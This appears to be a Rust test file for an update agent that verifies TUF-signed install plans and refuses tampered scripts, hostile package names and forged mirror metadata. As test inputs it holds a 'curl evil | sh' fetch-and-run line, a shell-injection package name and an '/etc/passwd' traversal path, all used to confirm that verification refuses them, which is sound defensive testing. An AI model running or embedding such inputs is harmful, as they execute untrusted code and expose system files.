    let evil = format!("{genuine}touch {}\n", f.path("pwned").display());
    let refusal = f
        .carry_out(&mut client, &f.plan(&v2, Some(step(evil))), now())
        .unwrap_err();
    assert_eq!(refusal.kind, kinds::SCRIPT, "{refusal}");
    assert!(
        refusal.detail.contains("not the one this agent generates"),
        "{refusal}"
    );
    assert_eq!(f.product_state(), before);
    assert!(!f.path("pwned").exists());

    // The install script too.
    let mut plan = f.plan(&v2, None);
    if let Step::Install { script, .. } = &mut plan.steps[1] {
        script.push_str("curl evil | sh\n");
    }
    let refusal = f.carry_out(&mut client, &plan, now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::SCRIPT, "{refusal}");

    // The genuine one verifies, and the verified plan holds the generated text.
    let verified = check_plan(
        &mut client,
        &f.plan(&v2, Some(step(genuine.clone()))),
        &Ours {
            platform: PLATFORM,
            installed: Some(&InstalledDoc {
                product: "av".into(),
                version: "1.0".into(),
                seq: 1,
                pattern: "p-1".into(),
                format: "archive".into(),
            }),
        },
        now(),
    )
    .unwrap();
    assert!(
        matches!(&verified.plan.steps[3], Step::Uninstall { script, .. } if *script == genuine)
    );

    // An uninstall of something the agent did not install.
    let refusal = check_plan(
        &mut client,
        &f.plan(&v2, Some(uninstall_step("other", "1.0"))),
        &ours(),
        now(),
    )
    .unwrap_err();
    assert!(
        refusal.detail.contains("this agent installed nothing"),
        "{refusal}"
    );
}

#[test]
fn a_hostile_name_in_signed_metadata_is_quoted_and_runs_harmlessly() {
    let (mut f, v2) = installed_fixture();
    let marker = f.path("pwned");
    let hostile = format!(
        "x'; touch {}; echo '$(touch {})`touch {}`",
        marker.display(),
        marker.display(),
        marker.display()
    );
    let deb = PackageCustom {
        format: "deb".into(),
        name: Some(hostile.clone()),
        version: "1.0".into(),
        ..v2.custom.clone()
    };
    let deb = f.list("acme", deb, b"a deb");
    f.publish();
    let script = uninstall_script(&UninstallSpec {
        product: "av",
        version: "1.0",
        format: PackageFormat::Deb,
        name: Some(&hostile),
        product_code: None,
        pre_uninstall: None,
    });
    let plan = f.plan(
        &v2,
        Some(Step::Uninstall {
            product: "av".into(),
            version: "1.0".into(),
            format: "deb".into(),
            script,
            target: Some(deb.path.clone()),
        }),
    );
    let installed = f.executor().installed();
    let verified = check_plan(
        &mut f.client(),
        &plan,
        &Ours {
            platform: PLATFORM,
            installed: installed.as_ref(),
        },
        now(),
    )
    .unwrap();
    let Step::Uninstall { script, .. } = &verified.plan.steps[3] else {
        unreachable!()
    };
    // Run the generated text with a `dpkg` that records its arguments.
    let bin = f.path("bin");
    fs::create_dir_all(&bin).unwrap();
    let args = f.path("dpkg-args");
    fs::write(
        bin.join("dpkg"),
        format!("#!/bin/sh\nprintf '%s\\n' \"$@\" > '{}'\n", args.display()),
    )
    .unwrap();
    fs::set_permissions(bin.join("dpkg"), fs::Permissions::from_mode(0o755)).unwrap();
    let status = std::process::Command::new("sh")
        .arg("-c")
        .arg(script)
        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
        .status()
        .unwrap();
    assert!(status.success());
    assert!(!marker.exists(), "the hostile name ran as code");
    assert_eq!(
        fs::read_to_string(&args).unwrap(),
        format!("--remove\n{hostile}\n")
    );
}

#[test]
fn a_refresh_after_a_plan_keeps_delegated_roles_in_the_store() {
    let mut f = Fixture::new();
    let v1 = f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let mut client = f.client();
    check_plan(&mut client, &f.plan(&v1, None), &ours(), now()).unwrap();
    let store = TrustStore::new(&f.path("state"));
    for role in [
        "root",
        "timestamp",
        "snapshot",
        "targets",
        &vendor_role("acme"),
    ] {
        assert!(store.load(role).unwrap().is_some(), "{role}");
    }
    // A restarted agent verifies the same plan from its store: only the root probe and the
    // timestamp are read.
    f.mirror.take_requests();
    check_plan(&mut f.client(), &f.plan(&v1, None), &ours(), now()).unwrap();
    assert_eq!(f.mirror.take_requests().len(), 2);
}

/// What a check-in's answer carries (`tuf_held` → `tuf_metadata`) stands for the requests a
/// refresh would make: after a release the refresh and the plan's search read nothing from the
/// mirror. An offered document that is not the one the signed metadata names is refused as a
/// fetched one would be.
#[test]
fn documents_a_checkin_carried_are_used_instead_of_fetched_and_verified_the_same() {
    let mut f = Fixture::new();
    let v1 = f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let mut client = f.client();
    check_plan(&mut client, &f.plan(&v1, None), &ours(), now()).unwrap();
    let held = client.held_versions();
    assert_eq!(
        held.keys().map(String::as_str).collect::<Vec<_>>(),
        ["snapshot", "targets", vendor_role("acme").as_str()]
    );
    let v2 = f.package("acme", "av", "2.0", 2, PLATFORM);
    f.publish();
    // What an upstream answers: the timestamp, and each held document in another version.
    let metadata = |name: &str| f.mirror.get(&format!("{METADATA_PATH}{name}")).unwrap();
    let timestamp = metadata("timestamp.json");
    let snapshot_version = Envelope::<TimestampRole>::parse("timestamp", &timestamp)
        .unwrap()
        .signed
        .meta["snapshot.json"]
        .version;
    let snapshot_name = format!("{snapshot_version}.snapshot.json");
    let snapshot = metadata(&snapshot_name);
    let listed = Envelope::<Snapshot>::parse("snapshot", &snapshot)
        .unwrap()
        .signed
        .meta;
    let mut carried = BTreeMap::from([(snapshot_name.clone(), snapshot.clone())]);
    for (role, version) in &held {
        let now_version = listed.get(&format!("{role}.json")).map(|m| m.version);
        if role != "snapshot" && now_version.is_some_and(|v| v != *version) {
            let name = format!("{}.{role}.json", now_version.unwrap());
            carried.insert(name.clone(), metadata(&name));
        }
    }
    assert!(
        carried.len() >= 2,
        "the snapshot and acme's role moved: {carried:?}"
    );
    let as_text = |docs: &BTreeMap<String, Vec<u8>>| {
        docs.iter()
            .map(|(name, bytes)| (name.clone(), String::from_utf8(bytes.clone()).unwrap()))
            .collect()
    };
    // An earlier snapshot offered under the new one's name: refused, as if the mirror served it.
    let mut tampered = carried.clone();
    tampered.insert(snapshot_name, metadata("1.snapshot.json"));
    client.offer_timestamp(Some(timestamp.clone()));
    client.offer_metadata(Some(as_text(&tampered)));
    let refusal = check_plan(&mut client, &f.plan(&v2, None), &ours(), now()).unwrap_err();
    // The honest documents: nothing is read from the mirror.
    f.mirror.take_requests();
    client.offer_timestamp(Some(timestamp));
    client.offer_metadata(Some(as_text(&carried)));
    check_plan(&mut client, &f.plan(&v2, None), &ours(), now()).unwrap();
    assert_eq!(f.mirror.take_requests(), Vec::<String>::new());
    assert_eq!(refusal.kind, kinds::MISMATCH, "{refusal}");
}

#[test]
fn a_terminal_without_a_root_is_told_where_it_comes_from() {
    let f = Fixture::new();
    let mut client = TrustClient::new(
        TrustStore::new(&f.path("empty")),
        Upstream::mirror(&f.mirror.url()).unwrap(),
    );
    let refusal = client.refresh(now()).unwrap_err();
    assert!(refusal.detail.contains("no trusted root"), "{refusal}");
    let _ = DirFetcher::new(f.path("unused"));
}

/// Whatever a hostile center puts in a plan's signed-target fields (traversal, other roles'
/// paths, control characters, megabytes, digests and sizes of anything), verification never
/// panics, and refuses every plan but the genuine one.
#[test]
fn hostile_plans_are_refused_never_panicked_on() {
    use proptest::prelude::*;
    let (f, v2) = installed_fixture();
    let genuine = f.plan(&v2, Some(uninstall_step("av", "1.0")));
    let installed = f.executor().installed();
    // The property runs in a `Fn` closure; the client it verifies with is one across cases.
    let client = std::cell::RefCell::new(f.client());
    client.borrow_mut().refresh(now()).unwrap();
    let hostile = || {
        prop_oneof![
            Just(v2.path.clone()),
            Just("packages/acme/av/2.0/../../../etc/passwd".to_owned()),
            Just("packages/evil/av/2.0/pc.archive".to_owned()),
            Just("herd/deltas/acme/av/2.0/pc.archive.from-00".to_owned()),
            Just("packages/acme/av/2.0/pc.archive\u{0}".to_owned()),
            Just(format!("{}/", v2.path)),
            Just("packages/acme/*/*/*".to_owned()),
            Just(String::new()),
            "\\PC{0,40}",
            (1usize..100_000).prop_map(|n| "packages/".repeat(n)),
        ]
    };
    let config = ProptestConfig {
        cases: 64,
        ..ProptestConfig::default()
    };
    proptest!(config, |(
        target in prop::option::of(hostile()),
        uninstall_target in prop::option::of(hostile()),
        sha in prop_oneof![Just(String::new()), "[0-9a-f]{64}", "\\PC{0,70}"],
        size in any::<u64>(),
        which in 0usize..4,
    )| {
        let mut plan = genuine.clone();
        match (which, &mut plan.steps[0]) {
            (0, Step::Fetch { target: t, .. }) => *t = target.clone(),
            (1, Step::Fetch { sha256, .. }) => *sha256 = sha.clone(),
            (2, Step::Fetch { size: s, .. }) => *s = size,
            _ => {}
        }
        if which == 3
            && let Step::Uninstall { target: t, format, .. } = &mut plan.steps[3]
        {
            *format = "deb".into();
            *t = uninstall_target.clone();
        }
        let result = verify_plan(
            &mut client.borrow_mut(),
            &plan,
            &Ours { platform: PLATFORM, installed: installed.as_ref() },
        );
        match result {
            Ok(verified) => prop_assert_eq!(&verified.plan, &genuine),
            Err(refusal) => prop_assert!(kinds::ALL.contains(&refusal.kind), "{}", refusal),
        }
    });
}

#[test]
fn a_download_from_a_mirror_resumes_where_it_stopped() {
    let mut f = Fixture::new();
    let v1 = f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let mut client = f.client();
    let verified = check_plan(&mut client, &f.plan(&v1, None), &ours(), now()).unwrap();
    let sha = hashes_of(&v1.bytes)["sha256"].clone();
    let fetcher = MirrorFetcher {
        upstream: client.upstream(),
        targets: &verified.targets,
    };
    let dest = f.path("download.part");
    fs::write(&dest, &v1.bytes[..100]).unwrap();
    f.mirror.take_requests();
    crate::execute::Fetcher::fetch(&fetcher, &sha, v1.bytes.len() as u64, &dest, 100).unwrap();
    assert_eq!(fs::read(&dest).unwrap(), v1.bytes);
    let url = format!("{TARGETS_PATH}{}", consistent_target_name(&v1.path, &sha));
    assert_eq!(f.mirror.take_requests(), [format!("{url} (from 100)")]);
}

#[test]
fn a_mirror_in_front_of_a_repository_tampers_with_what_passes_through() {
    let mut f = Fixture::new();
    f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let front = Mirror::start();
    front.proxy(Upstream::mirror(&f.mirror.url()).unwrap());
    let client = |dir: &str| {
        let mut client = f.client_in(&f.path(dir));
        client.upstream = Upstream::mirror(&front.url()).unwrap();
        client
    };
    client("honest").refresh(now()).unwrap();
    let mut doc: serde_json::Value = serde_json::from_slice(&f.timestamp()).unwrap();
    doc["signed"]["version"] = 99.into();
    front.put(
        &format!("{METADATA_PATH}timestamp.json"),
        serde_json::to_vec(&doc).unwrap(),
    );
    let refusal = client("tampered").refresh(now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::SIGNATURE, "{refusal}");
}

/// The alternative a `replace` verdict names, with the target the center filled in.
fn replacement(program: &str, version: &str, target: &str) -> herd_proto::fault::Alternative {
    herd_proto::fault::Alternative {
        program: program.into(),
        vendor: "company-b".into(),
        version: version.into(),
        package_sha256: None,
        package_size: None,
        target: Some(target.into()),
    }
}

#[test]
fn a_replacement_program_is_installed_only_as_the_signed_target_its_verdict_names() {
    let mut f = Fixture::new();
    let b = f.package("company-b", "mw-b", "2.0", 20, PLATFORM);
    let phone = f.package("company-b", "mw-b", "2.0", 20, "phone");
    f.publish();
    let mut client = f.client();
    client.refresh(now()).unwrap();
    let incoming = f.path("incoming");
    fs::create_dir_all(&incoming).unwrap();

    // Honest: listed, described as the verdict says, for this platform; downloaded whole.
    let signed =
        verify_program(&mut client, &replacement("mw-b", "2.0", &b.path), PLATFORM).unwrap();
    assert_eq!(signed.target, b.path);
    assert_eq!(signed.sha256, hashes_of(&b.bytes)["sha256"]);
    let dest = incoming.join(&signed.sha256);
    download_program(client.upstream(), &signed, &dest).unwrap();
    assert_eq!(fs::read(&dest).unwrap(), b.bytes);

    // Arbitrary installation: a target no role lists (the center's verdict alone).
    let unlisted = "packages/company-b/mw-evil/1.0/pc.archive";
    let refusal = verify_program(
        &mut client,
        &replacement("mw-evil", "1.0", unlisted),
        PLATFORM,
    )
    .unwrap_err();
    assert_eq!(refusal.kind, kinds::UNLISTED, "{refusal}");
    assert!(refusal.detail.contains("never installed"), "{refusal}");
    // No target at all: a verdict written before signed replacement.
    let mut unsigned = replacement("mw-b", "2.0", &b.path);
    unsigned.target = None;
    unsigned.package_sha256 = Some(hashes_of(&b.bytes)["sha256"].clone());
    let refusal = verify_program(&mut client, &unsigned, PLATFORM).unwrap_err();
    assert!(
        refusal.detail.contains("names no signed target"),
        "{refusal}"
    );
    // Wrong software: the signed target is another version, or for another platform.
    let refusal =
        verify_program(&mut client, &replacement("mw-b", "2.1", &b.path), PLATFORM).unwrap_err();
    assert!(refusal.detail.contains("(wrong software)"), "{refusal}");
    let refusal = verify_program(
        &mut client,
        &replacement("mw-b", "2.0", &phone.path),
        PLATFORM,
    )
    .unwrap_err();
    assert!(refusal.detail.contains("built for phone"), "{refusal}");

    // Tampered on the way: other bytes under the signed name are not kept.
    let sha = hashes_of(&b.bytes)["sha256"].clone();
    let mut evil = b.bytes.clone();
    evil[10] ^= 0xff;
    f.mirror.set(
        &format!("{TARGETS_PATH}{}", consistent_target_name(&b.path, &sha)),
        Behaviour::Replace(evil),
    );
    fs::remove_file(&dest).unwrap();
    let refusal = download_program(client.upstream(), &signed, &dest).unwrap_err();
    assert_eq!(refusal.kind, kinds::MISMATCH, "{refusal}");
    assert!(!dest.exists());
    assert_eq!(
        fs::read_dir(&incoming).unwrap().count(),
        0,
        "nothing half-written"
    );
}
